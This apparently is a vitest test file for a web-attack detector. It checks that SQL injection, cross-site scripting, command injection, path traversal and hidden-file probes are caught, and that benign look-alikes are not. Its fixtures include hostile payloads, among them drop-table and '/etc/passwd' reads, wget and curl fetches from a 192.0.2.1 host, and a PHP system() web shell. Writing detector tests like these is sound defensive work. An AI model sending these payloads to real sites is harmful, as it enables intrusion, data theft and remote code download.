// Proves that requests that attack web programs are told by kind, also when they hide, and that everyday ones are not; and
// that no text makes the reading slow.

import { describe, expect, it } from 'vitest';
import { Stage } from '../golden/stage.ts';
import { commandInjection, crossSite, hiddenFile, sqlInjection, traversal } from './attacks.ts';

const all = [sqlInjection, crossSite, commandInjection, traversal, hiddenFile];
const get = (target: string) => ({
  method: 'GET',
  target,
  shownTarget: target,
  host: 'www.example.org',
  userAgent: 'x/1',
});
const post = (body: string, contentType = 'application/x-www-form-urlencoded') => ({
  ...get('/form'),
  method: 'POST',
  contentType,
  body,
});
const found = (event: ReturnType<typeof get>) =>
  new Stage(all).event('http_request', event).alerts.map(({ detector }) => detector);

const attacks: readonly (readonly [string, ReturnType<typeof get>])[] = [
  ['web.sql-injection', get('/item?id=1%27+or+%271%27%3D%271')],
  ['web.sql-injection', get('/item?id=-1+UNION/**/SELECT+1,2,user()')],
  ['web.sql-injection', get("/item?id=1';drop table users--")],
  ['web.sql-injection', get('/item?id=1%2527%2520union%2520all%2520select%2520null')],
  ['web.sql-injection', get("/item?id=1' AND SLEEP(5)#")],
  ['web.sql-injection', get('/item?id=7 and 1=1')],
  ['web.sql-injection', post("user=admin' or 1=1 -- &pass=x")],
  ['web.xss', get('/page?name=%3Cscript%3Ealert(1)%3C/script%3E')],
  ['web.xss', get('/page?name="><img src=x onerror=alert(document.cookie)>')],
  ['web.xss', get('/page?to=javascript:alert(1)')],
  ['web.command-injection', get('/ping?host=1.1.1.1;cat%20/etc/passwd')],
  ['web.command-injection', get('/shell?cd+/tmp;wget+http://192.0.2.1/x.sh')],
  ['web.command-injection', get('/x?q=$(curl%20http://192.0.2.1/a)')],
  ['web.command-injection', get('/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array')],
  ['web.command-injection', post('<?php system($_GET["c"]); ?>', 'text/plain')],
  ['web.command-injection', get('/?x=%{(#_memberAccess=@java.lang.Runtime)}')],
  ['web.traversal', get('/view?file=../../../../etc/passwd')],
  ['web.traversal', get('/cgi-bin/.%2e/.%2e/.%2e/bin/sh')],
  ['web.traversal', get('/view?file=..%252f..%252f..%252fwindows/win.ini')],
  ['web.traversal', get('/view?file=php://filter/read=convert.base64-encode/resource=../x')],
  ['web.hidden-file', get('/.env')],
  ['web.hidden-file', get('/app/.git/config')],
];

const everyday: readonly ReturnType<typeof get>[] = [
  get('/'),
  get("/search?q=rock+'n'+roll"),
  get("/search?q=o'brien+and+sons"),
  get('/search?q=select+the+best+from+our+shop'),
  get('/search?q=union+jack+t-shirt'),
  get('/a/../b/style.css'),
  get('/static/js/app.min.js?v=1.2.3;m=1'),
  get('/docs/environment.html'),
  get('/maps?ll=48.1,11.5&z=12&q=caf%C3%A9+(centre)'),
  get('/weather?q=select%20*%20from%20weather.forecast%20where%20woeid%3D638242'),
  get('/ad?u=http%3A%2F%2Fa.example%2F%3Fx%3D1%26y%3D2&cb=alert'),
  get('/cat/id/ls?sort=price;asc'),
  get('/wp-content/themes/x/style.css?ver=5.4'),
  post('comment=I+like+it;+you+too?+(yes)&name=O%27Hara'),
  post(
    '------x\r\nContent-Disposition: form-data; name="a"; filename="b c.txt"\r\n\r\n--x',
    'multipart/form-data; boundary=----x',
  ),
  post('<p onclick="go()">text</p><script src="/a.js"></script>', 'text/html'),
  post('{"q":"or 1 = 1 order by 1"}', 'application/json'),
];

describe('attacks on web programs', () => {
  it.each(attacks)('hit: %s %j', (name, event) => {
    expect(found(event)).toContain(name);
  });

  it.each(everyday)('miss: %j', (event) => {
    expect(found(event)).toEqual([]);
  });

  it('is one alert for an attacker and a server, high with five different requests', () => {
    const stage = new Stage(sqlInjection);
    for (let i = 0; i < 40; i++) stage.event('http_request', get(`/item?id=${i % 6}'+union+select+1`));
    expect(stage.alerts.map(({ severity, observed, packet }) => [severity, observed, packet])).toEqual([
      ['high', 5, 1],
    ]);
  });

  it('reads HTTP/2 by its masked path, and anything that is no text not at all', () => {
    const stage = new Stage(sqlInjection).event(
      'http2',
      { url: "/x?id=1' union select 1", method: 'GET' },
      { only: 'eve' },
    );
    stage.event('http_request', { target: 7, body: {}, method: null });
    expect(stage.alerts).toHaveLength(1);
  });

  it.each(["'", '(', '../', '%25', '<', ';', ' or ', "' or ", '/*', '$(', '${', '<a ', 'select '])(
    'takes linear time for much of %j',
    (piece) => {
      const stage = new Stage(all);
      const begin = process.cpuUsage().user;
      const body = piece.repeat(4096 / piece.length);
      for (let i = 0; i < 10; i++) stage.event('http_request', { ...post(body), target: `/x?q=${body}${i}` });
      expect(stage.alerts.length).toBeLessThan(6);
      expect(process.cpuUsage().user - begin).toBeLessThan(1_500_000);
    },
  );
});
